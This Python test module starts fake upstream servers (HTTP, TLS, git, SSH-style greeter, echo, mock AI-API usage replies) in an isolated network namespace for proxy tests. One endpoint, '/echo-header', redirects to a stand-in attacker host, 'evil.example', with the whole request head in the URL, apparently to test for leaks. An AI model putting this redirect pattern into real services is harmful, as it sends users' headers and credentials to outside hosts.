"""Servers for tests that lie outside of this host: in a network of their own, at an address that
looks public (of those that are kept for documentation, so nobody's is hidden by it)."""

import asyncio
import contextlib
import datetime
import ipaddress
import subprocess
import sys
import tempfile
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from paddock.testing.conformance.outside import addresses_locked, spare_addresses
from tests.root import require_root

_SERVERS = r"""
import asyncio, base64, gzip, hashlib, json, os, ssl, sys
BIG = b"x" * 262144
PASSWORD = b"git-password-0123456789"

async def head(reader):
    lines = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").split("\r\n")
    fields = {n.lower(): v.strip() for n, _, v in (l.partition(":") for l in lines[1:] if l)}
    return (*lines[0].split(" "), fields)

async def web(reader, writer):
    tls = writer.get_extra_info("ssl_object")
    name = (getattr(tls, "asked", None) or "") if tls else ""
    try:
        while True:
            method, target, _, fields = await head(reader)
            with open(sys.argv[2], "a") as seen:
                seen.write(f"{method} {target} {fields}\n")
            body = await reader.readexactly(int(fields.get("content-length", 0)))
            path, _, query = target.partition("?")
            if fields.get("upgrade", "").lower() == "websocket":
                key = fields["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
                accept = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
                writer.write(("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n"
                    f"Connection: Upgrade\r\nSec-WebSocket-Accept: {accept}\r\n\r\n").encode())
                if path == "/echo":
                    writer.write(str(fields).encode())
                return await echo(reader, writer)
            if path == "/redirect":
                writer.write(f"HTTP/1.1 302 Found\r\nLocation: {query}\r\n".encode())
                writer.write(b"Content-Length: 0\r\n\r\n")
                continue
            if path == "/big":
                count = int(query)
                size = count * len(BIG)
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % size)
                for _ in range(count):
                    writer.write(BIG)
                    await writer.drain()
                continue
            if path == "/slow":
                writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
                for number in range(int(query)):
                    writer.write(b"5\r\ntick\n\r\n")
                    await writer.drain()
                    await asyncio.sleep(0.1)
                writer.write(b"0\r\n\r\n")
                continue
            if path == "/until":  # a file of that name is there
                writer.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
                while not os.path.exists(os.path.join(sys.argv[3], query)):
                    writer.write(b"5\r\ntick\n\r\n")
                    await writer.drain()
                    await asyncio.sleep(0.02)
                writer.write(b"0\r\n\r\n")
                continue
            if path.startswith("/git/"):
                await git(writer, method, target, fields, body)
                continue
            if kind := next((each for each in MODELS if each in path), ""):
                if query == "silent":
                    return
                await model(writer, kind, b'"stream": true' in body or "stream" in path, query)
                if query == "breaks":
                    return
                continue
            if path.startswith("/echo"):
                await told(writer, path, query, f"{method} {target} {fields}".encode())
                continue
            said = f"{method} {fields.get('host')} {target} {len(body)} {name}\n".encode()
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(said) + said)
            if fields.get("connection", "").lower() == "close":
                return
    except (asyncio.IncompleteReadError, ConnectionError, ValueError):
        pass
    finally:
        writer.close()

async def git(writer, method, target, fields, body):
    # Repositories below the fourth argument, for whoever knows the password.
    secret = base64.b64encode(b"x-access-token:" + PASSWORD).decode()
    if fields.get("authorization") != "Basic " + secret:
        writer.write(b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"git\"\r\n")
        writer.write(b"Content-Length: 0\r\n\r\n")
        return
    path, _, query = target.partition("?")
    if fields.get("content-encoding") == "gzip":
        body = gzip.decompress(body)
    env = {"PATH": os.environ["PATH"], "GIT_PROJECT_ROOT": sys.argv[3], "GIT_HTTP_EXPORT_ALL": "1",
        "PATH_INFO": path.removeprefix("/git"), "QUERY_STRING": query, "REQUEST_METHOD": method,
        "CONTENT_TYPE": fields.get("content-type", ""), "CONTENT_LENGTH": str(len(body)),
        "REMOTE_USER": "agent", "REMOTE_ADDR": "192.0.2.1",
        "GIT_PROTOCOL": fields.get("git-protocol", "")}
    backend = await asyncio.create_subprocess_exec("git", "http-backend", env=env,
        stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)
    out, _ = await backend.communicate(body)
    head, _, content = out.partition(b"\r\n\r\n")
    status = b"200 OK"
    lines = [line for line in head.split(b"\r\n")]
    for line in lines:
        if line.lower().startswith(b"status:"):
            status = line.partition(b":")[2].strip()
    writer.write(b"HTTP/1.1 %b\r\n%b\r\nContent-Length: %d\r\n\r\n" % (status, head, len(content)))
    writer.write(content)

MODELS = {
    "/messages": [{"type": "message_start", "message": {"model": "claude-sonnet-4-5", "usage":
        {"input_tokens": 1000, "cache_read_input_tokens": 400, "output_tokens": 1}}},
        {"type": "message_delta", "usage": {"output_tokens": 50}}],
    "/chat/completions": [{"model": "gpt-5-mini", "choices": []}, {"model": "gpt-5-mini", "usage":
        {"prompt_tokens": 1400, "completion_tokens": 50,
        "prompt_tokens_details": {"cached_tokens": 400}}}],
    "ateContent": [{"modelVersion": "gemini-2.5-pro", "usageMetadata": {"promptTokenCount": 1400,
        "cachedContentTokenCount": 400, "candidatesTokenCount": 50}}],
}

async def model(writer, kind, streams, query):
    # What an API of that dialect would say: 1000 tokens in, 400 of a cache, 50 out.
    if not streams:
        last = {**MODELS[kind][0].get("message", {}), **MODELS[kind][-1]}
        usage = {**last.get("usage", {}), **MODELS[kind][0].get("message", {}).get("usage", {})}
        usage |= MODELS[kind][-1].get("usage", {})
        said = json.dumps({**last, "usage": usage} if usage else last).encode()
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n")
        kept = said[:9] if query == "breaks" else said
        writer.write(b"Content-Length: %d\r\n\r\n" % len(said) + kept)
        return
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n")
    writer.write(b"Transfer-Encoding: chunked\r\n\r\n")
    for each in MODELS[kind]:
        said = b"data: " + json.dumps(each).encode() + b"\n\n"
        writer.write(b"%x\r\n%b\r\n" % (len(said), said))
        await writer.drain()
        if query == "breaks":
            return
        await asyncio.sleep(0.05)
    writer.write(b"0\r\n\r\n")

async def told(writer, path, query, said):
    # The request itself, given back in all the ways that there are.
    begin = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
    if path == "/echo-header":
        where = b"https://evil.example/?" + said.replace(b" ", b"+")
        writer.write(b"HTTP/1.1 302 Found\r\nLocation: %b\r\n" % where)
        writer.write(b"X-Said: %b\r\nContent-Length: 0\r\n\r\n" % said)
    elif path == "/echo-chunks":
        writer.write(begin + b"Transfer-Encoding: chunked\r\n\r\n")
        for byte in said:
            writer.write(b"1\r\n%c\r\n" % byte)
            await writer.drain()
        writer.write(b"0\r\n\r\n")
    elif path == "/echo-slowly":
        writer.write(begin + b"Content-Length: %d\r\n\r\n" % len(said))
        for byte in said:
            writer.write(b"%c" % byte)
            await writer.drain()
            await asyncio.sleep(0.001)
    elif path == "/echo-gzip":
        packed = gzip.compress(said)
        writer.write(begin + b"Content-Encoding: gzip\r\n")
        writer.write(b"Content-Length: %d\r\n\r\n" % len(packed) + packed)
    elif path == "/echo-forms":
        # As libraries of other languages would write it into JSON, a URL, a page, or a dump.
        text = said.decode("latin-1")
        php = json.dumps(text).replace("/", "\\/")
        go = json.dumps(text)
        for each in "&<>'":
            go = go.replace(each, "\\u%04X" % ord(each))
        spelt = "".join("\\u%04x" % ord(each) for each in text)
        url = "".join(c if c.isalnum() else "%%%02x" % ord(c) for c in text)
        page = text.replace("&", "&amp;").replace('"', "&#34;").replace("'", "&#39;")
        told = "\n".join((php, go, spelt, url, page, said.hex(), said.hex().upper())).encode()
        writer.write(begin + b"Content-Length: %d\r\n\r\n" % len(told))
        for start in range(0, len(told), 7):
            writer.write(told[start : start + 7])
            await writer.drain()
    elif path == "/echo-packed":
        writer.write(begin + b"Content-Encoding: br\r\nContent-Length: 4\r\n\r\nabcd")
    else:
        writer.write(begin + b"Content-Length: %d\r\n\r\n" % len(said) + said)

async def echo(reader, writer):
    while data := await reader.read(65536):
        writer.write(data)
        await writer.drain()
    writer.close()

async def greet(reader, writer):
    writer.write(b"SSH-2.0-upstream\r\n")
    await echo(reader, writer)

def named(sock, name, context):
    sock.asked = name

async def main():
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[1])
    context.sni_callback = named
    await asyncio.start_server(web, "0.0.0.0", 80)
    await asyncio.start_server(web, "0.0.0.0", 443, ssl=context)
    await asyncio.start_server(greet, "0.0.0.0", 22)
    await asyncio.start_server(echo, "0.0.0.0", 5432)
    print("ready", flush=True)
    await asyncio.Event().wait()

asyncio.run(main())
"""


@dataclass(frozen=True)
class Upstream:
    """Plain HTTP on 80, TLS on 443, a server that speaks first on 22, an echo on 5432."""

    address: str
    pid: int
    certificate: Path
    seen: Path
    """The head of every request so far."""

    @property
    def repositories(self) -> Path:
        """Where git's are, that are served below https://host/git/ for the right password."""
        return self.seen.parent

    async def was_asked(self, target: str) -> None:
        """Wait for a request with this in its head."""
        async with asyncio.timeout(20):
            while target not in self.seen.read_text():
                await asyncio.sleep(0.02)

    def end_streams(self, name: str) -> None:
        """The answers to `/until?name` are complete."""
        (self.seen.parent / name).touch()


@asynccontextmanager
async def upstream(*names: str) -> AsyncIterator[Upstream]:
    """One that has these names, to a certificate of its own."""
    names = names or ("upstream.example",)
    async with outside(names, sys.executable, "-c", _SERVERS) as made:
        yield made


@asynccontextmanager
async def outside(
    names: Sequence[str], *argv: str, cwd: Path | None = None
) -> AsyncIterator[Upstream]:
    """A program in a network of its own; it is given a certificate for the names, and says when it
    is ready."""
    require_root()
    with tempfile.TemporaryDirectory(prefix="pdk-upstream-") as place:
        both = Path(place) / "both.pem"
        both.write_bytes(certificate(tuple(names)))
        seen = Path(place) / "seen"
        seen.touch()
        child = await asyncio.create_subprocess_exec(
            *("unshare", "--net", *argv, str(both), str(seen), place),
            cwd=cwd,
            stdout=asyncio.subprocess.PIPE,
        )
        try:
            assert child.stdout is not None
            async with asyncio.timeout(20):
                assert await child.stdout.readline() == b"ready\n"
            address = await asyncio.to_thread(_cable, child.pid)
            yield Upstream(address, child.pid, both, seen)
        finally:
            with contextlib.suppress(ProcessLookupError):
                child.kill()
            await child.wait()


def _cable(pid: int) -> str:
    """It goes with the namespace, and the namespace with its process."""
    name = f"pdkup{pid:x}"
    inside = f"nsenter --target {pid} --net "
    with addresses_locked():
        here, there = spare_addresses(Path("/proc/net/route").read_text())
        _run(
            f"ip link add {name} type veth peer name eth0 netns {pid}",
            f"ip address add {here}/30 dev {name}",
            f"ip link set {name} up",
        )
    _run(
        f"{inside}ip link set lo up",
        f"{inside}ip address add {there}/30 dev eth0",
        f"{inside}ip link set eth0 up",
        f"{inside}ip route add default via {here}",
    )
    return there


def _run(*commands: str) -> None:
    for command in commands:
        subprocess.run(command.split(), check=True, timeout=10)


def gateway_of(address: str) -> str:
    """This host's own address on the cable."""
    return str(ipaddress.IPv4Address(address) - 1)


def _named(name: str) -> x509.GeneralName:
    try:
        return x509.IPAddress(ipaddress.ip_address(name))
    except ValueError:
        return x509.DNSName(name)


def certificate(names: tuple[str, ...]) -> bytes:
    """A key, and who has signed for it: itself."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, names[0])])
    now = datetime.datetime.now(datetime.UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(days=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([_named(n) for n in names]), False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    private = key.private_bytes(
        serialization.Encoding.PEM,
        serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption(),
    )
    return private + made.public_bytes(serialization.Encoding.PEM)
